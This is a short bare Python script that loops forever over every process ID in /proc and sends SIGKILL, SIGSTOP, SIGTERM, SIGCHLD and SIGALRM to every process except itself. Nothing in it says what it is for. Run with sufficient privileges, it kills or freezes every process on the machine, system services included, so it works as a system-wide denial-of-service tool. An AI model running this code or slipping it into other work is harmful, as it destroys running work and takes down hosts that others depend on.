import os
import signal

SIGNALS = (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGCHLD, signal.SIGALRM)
mine = os.getpid()
while True:
    for name in filter(str.isdigit, os.listdir("/proc")):
        for number in SIGNALS:
            try:
                if int(name) != mine:
                    os.kill(int(name), number)
            except OSError:
                continue
